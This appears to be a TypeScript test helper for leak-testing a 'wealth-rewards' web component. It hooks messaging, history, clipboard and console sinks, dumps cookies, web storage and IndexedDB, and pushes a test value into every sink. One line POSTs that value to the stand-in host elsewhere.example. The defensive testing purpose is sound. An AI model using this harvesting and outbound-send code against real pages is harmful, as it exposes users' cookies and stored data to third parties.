import type { WealthRewardsElement } from '../../src/index.ts';

// A sink is a place where a value can leave the app, such as an event or the storage.
// The probe runs in the page before every script. It records the values that pass through each sink and reads the values that
// are stored there.

/** The recorded values by sink. */
export interface Probe {
  readonly recorded: Record<
    'events' | 'channels' | 'history' | 'clipboard' | 'console' | 'errors' | 'logger' | 'bridge',
    string[]
  >;
}

export type ProbedWindow = Window & { leakProbe: Probe };

/** Installs the probe in the page. Its source is sent to the page, so it must not refer to anything outside itself. */
export function installProbe(): void {
  const toText = (value: unknown): string => {
    const seenObjects = new Set<unknown>();
    const replaceUnserializable = (_: string, part: unknown): unknown => {
      if (typeof part !== 'object' || part === null)
        return typeof part === 'bigint' ? `${part}` : part;
      if (seenObjects.has(part)) return 'again';
      seenObjects.add(part);
      if (part instanceof Error) {
        const { name, message, stack, cause } = part;
        return { ...part, name, message, stack, cause };
      }
      return part instanceof Node ? part.nodeName : part;
    };
    try {
      return JSON.stringify(value, replaceUnserializable) ?? String(value);
    } catch {
      return String(value);
    }
  };
  const lists = 'events channels history clipboard console errors logger bridge'.split(' ');
  const recorded = Object.fromEntries(
    lists.map((name) => [name, []]),
  ) as unknown as Probe['recorded'];
  Object.defineProperty(window, 'leakProbe', { value: { recorded } });

  /** Records the arguments of every call of a method. */
  const recordCalls = (owner: object, name: string, sink: keyof Probe['recorded']) => {
    const methods = owner as Record<string, (...given: unknown[]) => unknown>;
    const originalMethod = methods[name]!;
    methods[name] = function (...given) {
      const recordedArgs = given.map((arg) =>
        arg instanceof CustomEvent ? [arg.type, arg.detail as unknown] : arg,
      );
      recorded[sink].push(toText(recordedArgs));
      return originalMethod.apply(this, given);
    };
  };
  recordCalls(BroadcastChannel.prototype, 'postMessage', 'channels');
  recordCalls(window, 'postMessage', 'channels');
  recordCalls(EventTarget.prototype, 'dispatchEvent', 'events');
  for (const name of ['pushState', 'replaceState']) recordCalls(history, name, 'history');
  for (const name of ['writeText', 'write']) recordCalls(navigator.clipboard, name, 'clipboard');
  for (const level of ['debug', 'info', 'log', 'warn', 'error', 'trace', 'table', 'dir', 'assert'])
    recordCalls(console, level, 'console');
  addEventListener('error', ({ error, message }) => recorded.errors.push(toText([message, error])));
  addEventListener('unhandledrejection', ({ reason }) => recorded.errors.push(toText(reason)));

  const listeners = new Set<(event: { data: string }) => void>();
  const capabilities = 'openUrl share copy saveImage setTitle setBackEnabled haptic'.split(' ');
  const bridge = {
    addEventListener: (_: string, listener: (event: { data: string }) => void) =>
      listeners.add(listener),
    removeEventListener: (_: string, listener: (event: { data: string }) => void) =>
      listeners.delete(listener),
    postMessage(json: string) {
      recorded.bridge.push(json);
      const { kind, method, ...rest } = JSON.parse(json) as Record<string, unknown>;
      if (kind !== 'req') return;
      const result = method === 'hello' ? { platform: 'test', capabilities } : {};
      const data = JSON.stringify({ ...rest, method, kind: 'res', result });
      setTimeout(() => listeners.forEach((listener) => listener({ data })));
    },
  };
  const logMessage = (message: string, fields?: object) =>
    recorded.logger.push(toText([message, fields]));
  new MutationObserver((_, observer) => {
    const element = document.querySelector<WealthRewardsElement>('wealth-rewards');
    if (!element) return;
    observer.disconnect();
    Object.assign(element, { bridge });
    void customElements.whenDefined('wealth-rewards').then(() => {
      element.logger = { debug: logMessage, info: logMessage, warn: logMessage, error: logMessage };
    });
  }).observe(document, { childList: true, subtree: true });
}

/** Reads the values that are in the page now, by sink. Must not refer to anything outside itself. */
export async function readPage() {
  const texts: string[] = [];
  const attributes: string[] = [];
  const fields: string[] = [];
  const walk = (root: ParentNode) => {
    for (const element of root.querySelectorAll('*')) {
      const isField = element.matches('input, textarea');
      if (isField) fields.push((element as HTMLInputElement).value);
      for (const { name, value } of element.attributes)
        (isField && name === 'value' ? fields : attributes).push(value);
      for (const child of isField ? [] : element.childNodes)
        if (child instanceof Text && !element.matches('style, script')) texts.push(child.data);
      if (element.shadowRoot) walk(element.shadowRoot);
    }
  };
  walk(document);
  const dumpDatabase = async (name: string) => {
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(new Error(name));
    });
    const stores = await Promise.all(
      [...database.objectStoreNames].map(
        (store) =>
          new Promise((resolve) => {
            const request = database.transaction(store).objectStore(store).getAll();
            request.onsuccess = () => resolve(request.result);
          }),
      ),
    );
    database.close();
    return JSON.stringify([name, stores]);
  };
  const databases = await indexedDB.databases();
  const element = document.querySelector('wealth-rewards') as Partial<WealthRewardsElement> | null;
  return {
    'text of the page': texts,
    attributes,
    fields,
    'address of the page': [location.href],
    'history.state': [JSON.stringify(history.state)],
    title: [document.title, window.name],
    localStorage: Object.entries(localStorage).flat(),
    sessionStorage: Object.entries(sessionStorage).flat(),
    cookies: [document.cookie],
    'databases and caches': [
      ...(await caches.keys()),
      ...(await Promise.all(databases.map(({ name = '' }) => dumpDatabase(name)))),
    ],
    diagnostics: [JSON.stringify(element?.getDiagnostics?.() ?? null)],
    properties: [
      JSON.stringify([element?.currentRoute, element?.state, (element as HTMLElement)?.dataset]),
    ],
    'performance entries': performance.getEntries().map(({ name }) => name),
  };
}

/** Puts a value into every sink. Must not refer to anything outside itself. */
export async function leakEverywhere(value: string): Promise<void> {
  const element = document.querySelector('wealth-rewards')!;
  element.dispatchEvent(new CustomEvent('wr-error', { detail: { message: value } }));
  element.navigate(`/pages/login/index?invite=${value}`);
  element.getDiagnostics = () => ({ state: value }) as never;
  element.logger?.warn?.(value);
  element.bridge?.postMessage(JSON.stringify({ method: value }));
  element.setAttribute('data-own', value);
  element.append(value);
  new BroadcastChannel('own').postMessage(value);
  document.title = value;
  document.cookie = `own=${value}`;
  localStorage.setItem('own', value);
  sessionStorage.setItem('own', value);
  performance.mark(value);
  console.warn(value);
  window.dispatchEvent(new ErrorEvent('error', { message: value }));
  await navigator.clipboard.writeText(value).catch(() => {});
  await caches.open(value);
  const headers = { 'x-own': value };
  const request = { method: 'POST', body: value, headers };
  await fetch(`https://elsewhere.example/?own=${value}`, request).catch(() => {});
  // `navigate` above has written its entry by now.
  history.replaceState(value, '', `?own=${value}`);
}
